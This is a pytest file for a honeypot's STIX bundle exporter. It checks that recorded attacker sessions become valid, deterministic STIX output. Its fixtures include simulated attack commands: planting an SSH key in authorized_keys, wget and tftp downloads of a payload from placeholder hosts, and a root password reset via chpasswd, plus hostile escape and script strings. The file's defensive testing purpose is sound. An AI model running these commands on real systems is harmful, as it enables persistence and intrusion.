"""Bundles of STIX: valid, the same each time, and whole whatever attackers wrote."""

import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import stix2  # type: ignore[import-untyped]
from stix2patterns.validator import run_validator  # type: ignore[import-untyped]

from hermes import events
from hermes.analysis import findings, keys
from hermes.analysis.reader import IndexReader
from hermes.analysis.rules_match import catalogue
from hermes.analysis.stix import MAX_OF_A_KIND, Bundle, Dossier
from hermes.config import Settings
from hermes.events import Event
from hermes.store import JournalReader
from tests.unit.analysis.sensor import left_by
from tests.unit.analysis.test_scans import KEY, MINER
from tests.unit.analysis.world import artifact, attack

PLANT = f'echo "{KEY} x">>.ssh/authorized_keys'
FINGERPRINT = keys.fingerprint(KEY) or ""
ORIGIN = events.ConnectionOrigin(country="DE", asn=64500, organization="Example \x1b[31m net")
RAN = events.ProcessStarted(
    container_id="b", pid=7, parent=1, uid=0, gid=0, program="/bin/sh", argv=["sh", "-c", "id\x00"], cwd="/tmp"
)  # fmt: skip
TRIED = events.NetworkAttempted(
    container_id="b", pid=7, call="connect", family="inet", protocol="tcp", address="198.51.100.9", port=3333, outcome="pending"
)  # fmt: skip


def bundle(settings: Settings, *sessions: str, campaign: str | None = None) -> dict[str, Any]:
    """The bundle of these sessions, parsed strictly."""
    made = Bundle("s1", catalogue())
    with IndexReader(settings.index_path) as index, JournalReader(settings.journal_path) as journal:
        name = None if campaign is None else made.campaign(findings.campaign(index, campaign)[0], "journal")
        for session in sessions:
            made.session(
                Dossier(
                    session=journal.get_session(session), events=journal.session_events(session),
                    commands=[it.parsed for it in index.commands(session)], techniques=findings.techniques(index, session),
                    files=findings.session_files(index, session), returns=findings.returns(index, session),
                ),
                name,
            )  # fmt: skip
    text = made.serialize()
    assert text.isascii()
    stix2.parse(text, allow_custom=False)
    found: dict[str, Any] = json.loads(text)
    known = {it["id"] for it in found["objects"]}
    assert len(known) == len(found["objects"])
    for thing in found["objects"]:
        for field, value in thing.items():
            if field.endswith("_ref"):
                assert value in known, (thing["id"], field)
            elif field.endswith("_refs"):
                assert set(value) <= known, (thing["id"], field)
        if thing["type"] == "indicator":
            assert run_validator(thing["pattern"], stix_version="2.1") == [], thing["pattern"]
    return found


def kinds(found: dict[str, Any]) -> Counter[str]:
    return Counter(it["type"] for it in found["objects"])


def of(found: dict[str, Any], kind: str) -> list[dict[str, Any]]:
    return [it for it in found["objects"] if it["type"] == kind]


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    more: list[Event] = [
        ORIGIN, RAN, TRIED, artifact("c" * 64, path="/tmp/miner"), artifact(MINER, path="/tmp/dropped"),
        events.ForwardRequested(kind="direct-tcpip", host="mail.example", port=25, accepted=True),
    ]  # fmt: skip
    commands = [PLANT, "wget http://198.51.100.7/bins.sh; tftp -g -r x 198.51.100.8", "echo 'root:hQ7vTz2mWd9x' | chpasswd"]
    return left_by(
        tmp_path_factory.mktemp("sensor"),
        *attack("one", *commands, failures=3, more=more),
        *attack("two", key=FINGERPRINT, address="2001:db8::7"),
        *attack("three", "uname"),
    )


def test_a_session_says_all_that_is_known_of_it(settings: Settings) -> None:
    found = bundle(settings, "one")
    assert {
        "identity",
        "observed-data",
        "ipv4-addr",
        "autonomous-system",
        "network-traffic",
        "user-account",
        "process",
        "file",
    } < set(kinds(found))
    assert {it["value"] for it in of(found, "url")} == {"http://198.51.100.7/bins.sh", "tftp://198.51.100.8/x"}
    assert "mail.example" in {it["value"] for it in of(found, "domain-name")}
    assert {"192.0.2.7", "198.51.100.9"} <= {it["value"] for it in of(found, "ipv4-addr")}
    (file, _) = of(found, "file")
    assert file["hashes"]["SHA-256"] == "c" * 64
    assert file["name"] == "miner"
    assert [it["number"] for it in of(found, "autonomous-system")] == [64500]
    assert [it["command_line"] for it in of(found, "process")] == ["sh -c id\0"]
    assert {it.get("credential") for it in of(found, "user-account")} >= {"123456", "no0", "no1", "no2"}
    (observed,) = of(found, "observed-data")
    assert {it["id"] for it in found["objects"] if it["type"] in ("url", "file", "process")} <= set(observed["object_refs"])


def test_techniques_are_sighted_and_point_to_attack(settings: Settings) -> None:
    found = bundle(settings, "one")
    patterns = {it["external_references"][0]["external_id"]: it for it in of(found, "attack-pattern")}
    assert {"T1098.004", "T1105", "T1098", "T1110.001"} <= set(patterns)
    key = patterns["T1098.004"]
    assert key["external_references"][0]["url"] == "https://attack.mitre.org/techniques/T1098/004/"
    assert {it["phase_name"] for it in key["kill_chain_phases"]} == {"persistence", "privilege-escalation"}
    sighted = {it["sighting_of_ref"] for it in of(found, "sighting")}
    assert {it["id"] for it in patterns.values()} <= sighted


def test_indicators_are_based_on_what_was_observed(settings: Settings) -> None:
    found = bundle(settings, "one")
    patterns = {it["pattern"] for it in of(found, "indicator")}
    assert f"[file:hashes.'SHA-256' = '{'c' * 64}']" in patterns
    assert "[url:value = 'http://198.51.100.7/bins.sh']" in patterns
    assert "[ipv4-addr:value = '192.0.2.7']" in patterns
    based = {it["source_ref"] for it in of(found, "relationship") if it["relationship_type"] == "based-on"}
    assert {it["id"] for it in of(found, "indicator")} == based


def test_only_a_rule_that_says_so_makes_malware(settings: Settings) -> None:
    (malware,) = of(bundle(settings, "one"), "malware")
    assert (malware["name"], malware["malware_types"], malware["is_family"]) == (MINER, ["resource-exploitation"], False)


def test_keys_and_returns_are_notes(settings: Settings) -> None:
    assert any(FINGERPRINT in it["content"] for it in of(bundle(settings, "one"), "note"))
    notes = of(bundle(settings, "two"), "note")
    assert any(it["abstract"].startswith("returning-key") and "session one" in it["content"] for it in notes)


def test_a_campaign_uses_what_its_sessions_show(settings: Settings) -> None:
    with IndexReader(settings.index_path) as index:
        (campaign,) = findings.campaigns(index, 9)
    found = bundle(settings, "one", "two", campaign=campaign.id)
    (made,) = of(found, "campaign")
    assert "2 sessions from 2 addresses" in made["description"]
    uses = [it for it in of(found, "relationship") if it["relationship_type"] == "uses"]
    assert {it["source_ref"] for it in uses} == {made["id"]}
    assert {it["target_ref"] for it in uses} == {
        it["id"] for it in found["objects"] if it["type"] in ("attack-pattern", "malware")
    }
    assert kinds(found)["observed-data"] == 2
    assert kinds(found)["ipv6-addr"] == 1


def test_exported_twice_it_is_the_same_and_what_bundles_share_is_too(settings: Settings) -> None:
    assert bundle(settings, "one") == bundle(settings, "one")
    one, three = bundle(settings, "one"), bundle(settings, "three")
    assert one["id"] != three["id"]
    shared = {it["id"]: it for it in one["objects"]}
    common = [it for it in three["objects"] if it["id"] in shared]
    assert {"identity", "attack-pattern", "ipv4-addr"} <= {it["type"] for it in common}
    assert all(it == shared[it["id"]] for it in common if it["type"] in ("identity", "attack-pattern"))


HOSTILE = "\x1b]0;x\x07'\"]}\\<script>\u202e\ud7ff\U0010ffff\x7f\x00"


def test_what_attackers_wrote_breaks_no_bundle(tmp_path: Path) -> None:
    settings = left_by(
        tmp_path,
        *attack(
            "one", HOSTILE, f"wget 'http://192.0.2.1/{HOSTILE}'", "wget http://[::1/x http://a..b/ http:///x", "curl -O http://h\'/]",
            user=HOSTILE, password=HOSTILE,
            more=[
                artifact("d" * 64, path=f"/tmp/{HOSTILE}/"), artifact("e" * 64, path="/tmp/" + "n" * 5000),
                events.ForwardRequested(kind="direct-tcpip", host=HOSTILE, port=99999, accepted=True),
                events.ForwardRequested(kind="direct-tcpip", host="a b.example", port=1, accepted=True),
                events.NetworkAttempted(
                    container_id="b", pid=1, call="connect", family="unix", protocol="stream", address=HOSTILE, outcome="x"
                ),
                events.ConnectionOrigin(asn=64500, organization=HOSTILE),
            ],
        ),
    )  # fmt: skip
    found = bundle(settings, "one")
    assert any(it.get("account_login") == HOSTILE for it in of(found, "user-account"))


def test_a_bundle_is_bounded(tmp_path: Path) -> None:
    many = [f"wget http://192.0.2.1/{it}.sh" for it in range(2 * MAX_OF_A_KIND)]
    found = bundle(left_by(tmp_path, *attack("one", *many)), "one")
    assert kinds(found)["url"] == MAX_OF_A_KIND
    assert kinds(found)["process"] == MAX_OF_A_KIND
